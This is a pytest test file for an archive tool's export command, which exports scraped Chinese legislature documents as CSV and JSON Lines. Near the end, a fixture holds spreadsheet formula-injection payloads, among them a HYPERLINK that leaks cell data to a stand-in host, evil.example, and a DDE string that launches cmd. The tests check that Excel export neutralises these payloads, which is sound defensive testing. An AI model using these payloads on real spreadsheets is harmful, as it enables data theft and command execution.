"""Exports: stable columns, CSV for Excel, JSON Lines, --since, one entry per table."""

from __future__ import annotations

import csv
import io
import json

import pytest

from archive import Archive
from npc_archive.exit_codes import NO_ARCHIVE

DOCUMENT_COLUMNS = ["url", "title", "published_at", "source", "view_count", "body_text", "paragraphs", "prev_url",
                    "next_url", "attachments", "column_name", "snapshot_id", "first_seen_at", "last_seen_at",
                    "id", "revision", "removed_at", "issuer", "addressee", "subject", "meeting", "meeting_date",
                    "signed_date", "report_deadline", "report_due", "view_count_url", "images", "capture_id",
                    "view_count_source", "view_count_includes_own_fetch", "column_kind", "column_url",
                    "followup_status", "followup_days", "sections", "site", "published_at_source", "parts", "view_count_approximate"]
CAPTURE_COLUMNS = ["id", "url", "method", "fetched_at", "status", "content_type", "size", "sha256", "headers",
                    "request_headers", "crawl_id"]


@pytest.fixture
def db(tmp_path):
    archive = Archive(tmp_path / "export.db")
    for number, (published, fetched) in enumerate([("2019-03-01T10:00:00+08:00", "2019-03-02T00:00:00.000Z"),
                                                   ("2021-06-01T10:00:00+08:00", "2021-06-02T00:00:00.000Z")]):
        url = f"http://jjrd.example/ShowArticle.asp?ArticleID={number}"
        capture_id, _ = archive.add_capture(url=url, status=200, headers=[("Content-Type", "text/html")],
                                            body=b"page%d" % number, fetched_at=fetched)
        archive.save_document({"url": url, "title": f"关于教育工作的审议意见{number}", "published_at": published,
                               "source": "椒江人大网", "view_count": number, "body_text": "区人民政府：\n正文",
                               "paragraphs": ["区人民政府：", "正文"], "attachments": [{"title": "附件", "url": url + "#a"}],
                               "sections": [{"kind": "addressee", "heading": None, "text": "区人民政府：", "items": []}]},
                              capture_id=capture_id, crawl_id=None)
    archive.close()
    return str(tmp_path / "export.db")


def test_excel_csv_file_has_a_bom_and_the_stable_columns(db, tmp_path, cli):
    out = tmp_path / "documents.csv"
    cli("export", "--db", db, "--excel", "-o", str(out))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf" * 2)
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == DOCUMENT_COLUMNS
    assert [row["title"] for row in rows] == ["关于教育工作的审议意见1", "关于教育工作的审议意见0"]
    assert json.loads(rows[0]["paragraphs"]) == ["区人民政府：", "正文"]


def test_excel_csv_to_stdout_starts_with_a_bom(db, cli):
    output = cli("export", "--db", db, "--excel").stdout_bytes
    assert output.startswith("\ufeffurl,title,".encode())


def test_plain_csv_has_no_bom(db, cli):
    assert cli("export", "--db", db, "--format", "csv").stdout_bytes.startswith(b"url,title,")


def test_excel_refuses_json_lines(db, cli):
    result = cli("export", "--db", db, "--excel", "--format", "jsonl", check=False)
    assert result.exit_code == 2 and "--excel writes CSV" in result.output


def test_json_lines_nest_json_columns_and_since_filters_by_publication(db, cli):
    records = [json.loads(line) for line in cli("export", "--db", db, "--since", "2020-01-01").output.splitlines()]
    assert [record["published_at"][:4] for record in records] == ["2021"]
    assert list(records[0]) == DOCUMENT_COLUMNS and records[0]["attachments"][0]["title"] == "附件"


def test_captures_table_since_filters_by_fetch_time(db, cli):
    records = [json.loads(line) for line in cli("export", "--db", db, "--table", "captures").output.splitlines()]
    assert list(records[0]) == CAPTURE_COLUMNS and records[0]["headers"] == [["Content-Type", "text/html"]]
    later = cli("export", "--db", db, "--table", "captures", "--since", "2020-01-01", "--format", "csv").output
    assert [row["fetched_at"] for row in csv.DictReader(io.StringIO(later))] == ["2021-06-02T00:00:00.000Z"]


def test_the_captures_table_is_still_exported_under_its_earlier_name(db, cli):
    assert cli("export", "--db", db, "--table", "snapshots").output == cli("export", "--db", db, "--table", "captures").output
    assert "snapshots" not in cli("export", "--help").output


def test_a_documents_capture_id_is_also_exported_under_its_earlier_name(db, cli):
    records = [json.loads(line) for line in cli("export", "--db", db).output.splitlines()]
    assert [record["snapshot_id"] for record in records] == [record["capture_id"] for record in records] == [2, 1]


@pytest.mark.parametrize("since, years", [
    ("2021-06-01T02:00:00Z", ["2021"]),  # the instant it was published, 10:00 China time
    ("2021-06-01T10:00:00+08:00", ["2021"]),
    ("2021-06-01T10:00:01+08:00", []),
    ("2021-06-01", ["2021"]),  # a China date
    ("2021-06-02", []),
])
def test_since_compares_publish_times_as_instants(db, since, years, cli):
    records = [json.loads(line) for line in cli("export", "--db", db, "--since", since).output.splitlines()]
    assert [record["published_at"][:4] for record in records] == years


def test_sections_since_compares_their_documents_publish_time(db, cli):
    sections = [json.loads(line) for line in cli("export", "--db", db, "--table", "sections",
                                                 "--since", "2021-06-01T02:00:00Z").output.splitlines()]
    archive = Archive(db)
    try:
        (later_id,) = archive.conn.execute("SELECT id FROM documents WHERE published_at LIKE '2021%'").fetchone()
    finally:
        archive.close()
    assert sections and {section["document_id"] for section in sections} == {later_id}


@pytest.mark.parametrize("since", ["2022/01/01", "garbage", ""])
def test_export_rejects_a_since_that_is_not_a_date_or_time(db, since, cli):
    result = cli("export", "--db", db, "--since", since, check=False)
    assert result.exit_code == 2 and "Invalid value for '--since': not a date or time" in result.output


def test_export_refuses_a_missing_archive(tmp_path, cli):
    result = cli("export", "--db", tmp_path / "none.db", check=False)
    assert result.exit_code == NO_ARCHIVE and "no archive" in result.output


@pytest.mark.parametrize("table, columns", [
    ("sections", ["id", "document_id", "position", "kind", "heading", "text", "snapshot_id", "capture_id"]),
    ("items", ["id", "section_id", "document_id", "ordinal", "heading", "text"]),
    ("view_counts", ["document_id", "url", "observed_at", "count", "crawl_id", "source", "includes_own_fetch", "approximate"]),
])
def test_structure_and_view_count_tables_export_with_stable_columns(table, columns, tmp_path):
    from archive.export import EXPORTS

    archive = Archive(tmp_path / "t.db")
    try:
        capture_id, _ = archive.add_capture(url="http://jjrd.example/a", status=200, headers=[], body=b"page")
        record = {"url": "http://jjrd.example/a", "title": "关于教育工作的审议意见", "published_at": "2022-11-15",
                  "source": "椒江人大网", "view_count": 7, "body_text": "区人民政府：\n一是加强领导。", "paragraphs": [],
                  "sections": [{"kind": "addressee", "heading": None, "text": "区人民政府：", "items": []},
                               {"kind": "opinions", "heading": None, "text": "一是加强领导。",
                                "items": [{"ordinal": 1, "heading": "加强领导", "text": "一是加强领导。"}]}]}
        archive.save_document(record, capture_id=capture_id, crawl_id=None)
        rows = list(EXPORTS[table].rows(archive))
        assert list(EXPORTS[table].names) == columns and rows and list(rows[0]) == columns
        assert list(EXPORTS[table].rows(archive, since="2023-01-01")) == [] or table == "view_counts"
    finally:
        archive.close()


FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1, "关于教育工作的审议意见")', "source": "@SUM(1+1)*cmd|' /C calc'!A0",
            "body_text": "-2+3\n区人民政府：", "meeting": "\t=1+1", "subject": "\r=1+1"}


@pytest.fixture
def formula_db(tmp_path):
    archive = Archive(tmp_path / "formulas.db")
    url = "http://jjrd.example/ShowArticle.asp?ArticleID=1"
    capture_id, _ = archive.add_capture(url=url, status=200, headers=[], body=b"page")
    archive.save_document({"url": url, "published_at": "2020-01-01T10:00:00+08:00", "view_count": -1, "paragraphs": ["=1+1"],
                           "facts": {"meeting": FORMULAS["meeting"], "subject": FORMULAS["subject"]},
                           **{name: value for name, value in FORMULAS.items() if name in ("title", "source", "body_text")}},
                          capture_id=capture_id, crawl_id=None)
    archive.close()
    return str(tmp_path / "formulas.db")


def test_excel_makes_every_formula_like_cell_text(formula_db, cli):
    output = cli("export", "--db", formula_db, "--excel").stdout_bytes.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(output))
    assert row["title"] == "'" + FORMULAS["title"] and row["source"] == "'" + FORMULAS["source"]
    assert row["body_text"] == "'" + FORMULAS["body_text"]
    assert (row["meeting"], row["subject"]) == ("'" + FORMULAS["meeting"], "'" + FORMULAS["subject"])
    assert row["view_count"] == "-1"  # a number is a number, not a formula
    assert [name for name, cell in row.items() if name != "view_count" and cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_plain_csv_and_json_lines_keep_the_data_as_it_is(formula_db, cli):
    (row,) = csv.DictReader(io.StringIO(cli("export", "--db", formula_db, "--format", "csv").output))
    (record,) = [json.loads(line) for line in cli("export", "--db", formula_db).output.splitlines()]
    for name in ("title", "source", "body_text", "meeting", "subject"):
        assert row[name] == record[name] == FORMULAS[name]
